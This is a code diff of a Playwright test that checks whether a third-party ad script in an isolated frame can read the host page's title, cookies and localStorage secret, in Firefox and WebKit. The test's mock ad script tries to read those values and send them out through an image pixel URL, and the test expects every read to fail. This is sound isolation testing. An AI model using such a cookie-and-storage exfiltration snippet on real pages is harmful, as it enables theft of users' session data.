@@ -1,11 +1,10 @@
-/** The network's script in a frame of its own, in the engines that the other journeys do not drive. */
+/** The network's script in a frame of its own, in Firefox and WebKit. */
 import { mergeTests } from '@playwright/test';
-import { AD_SOURCE } from '../../support/companion/hostileScripts';
+import { AD_SOURCE } from '../../support/companion/adCases';
 import { startFront } from '../../support/companion/front';
-import { networkOptions } from '../../support/companion/options';
 import { expect, test as companionTest } from '../../support/companion/test';
-import { bundleVariant } from '../../support/companion/variant';
-import { until } from '../../support/engines/engine';
+import { bundleVariant, createNetworkOptions } from '../../support/companion/variant';
+import { waitUntil } from '../../support/engines/engine';
 import { test as engineTest } from '../../support/engines/test';
 import { PAGE_KINDS } from '../../support/site';
 
@@ -13,11 +12,11 @@ const BLOCK = `document.querySelector('[data-companion-room]')`;
 
 const test = mergeTests(companionTest, engineTest);
 
-/** An ad whose script tells the network its origin, and what it finds of the page. */
-const tellingSource = (origin: string): string => `${AD_SOURCE}
+/** Returns an ad script that reports its origin to the network, and what it can read of the page. */
+const getReportingSource = (origin: string): string => `${AD_SOURCE}
 const seen = [() => parent.document.title, () => document.cookie, () => localStorage.secret]
   .map((look) => { try { return look() || 'nothing'; } catch { return 'nothing'; } });
-new Image().src = ${JSON.stringify(origin)} + '/pixel/told/' + [self.origin, ...seen].join();
+new Image().src = ${JSON.stringify(origin)} + '/pixel/report/' + [self.origin, ...seen].join();
 `;
 
 for (const engineName of ['Firefox', 'WebKit'] as const) {
@@ -28,19 +27,19 @@ for (const engineName of ['Firefox', 'WebKit'] as const) {
       engine,
       network,
     }) => {
-      // By http:, since these engines trust no certificate that nobody has signed.
+      // Served by http:, because these engines don't trust self-signed certificates.
       const front = await startFront();
       try {
         front.variant = await bundleVariant(
-          networkOptions(network, { ads: { network: { isolation: 'frame' } } }),
+          createNetworkOptions(network, { ads: { network: { isolation: 'frame' } } }),
         );
-        // A file of the same origin: a page would ask for an ad of its own, at any time.
+        // Stores the secrets from a file of the same origin, because a page would request an ad of its own.
         await engine.goto(front.url('/robots.txt'));
         await engine.evaluate(`document.cookie = localStorage.secret = 'secret=kept'`);
-        network.set({ source: tellingSource(network.origin) });
+        network.set({ source: getReportingSource(network.origin) });
         await engine.goto(front.url(PAGE_KINDS.text));
-        // The class and the link come with the frame's message.
-        await until(
+        // The frame's message adds the class and the link.
+        await waitUntil(
           engine,
           `${BLOCK}.querySelector('.ad-framed.carbonads') !== null`,
           'the message',
@@ -49,7 +48,7 @@ for (const engineName of ['Firefox', 'WebKit'] as const) {
         expect(await engine.evaluate(`${link}.href`)).toBe(
           'https://ads.fake-network.test/click/script',
         );
-        await until(
+        await waitUntil(
           engine,
           `${link}.dataset.gaEventLabel === 'carbon-body-top-image'`,
           'its label',
@@ -59,9 +58,9 @@ for (const engineName of ['Firefox', 'WebKit'] as const) {
           return document.elementFromPoint(x + width / 2, y + height / 2) === ${link};
         })()`;
         expect(await engine.evaluate(isOnTop)).toBe(true);
-        const told = (): string[] =>
-          network.requests().flatMap(({ url }) => url.split('/pixel/told/')[1] ?? []);
-        await expect.poll(told).toEqual(['null,nothing,nothing,nothing']);
+        const getReports = (): string[] =>
+          network.requests().flatMap(({ url }) => url.split('/pixel/report/')[1] ?? []);
+        await expect.poll(getReports).toEqual(['null,nothing,nothing,nothing']);
       } finally {
         await front.close();
       }
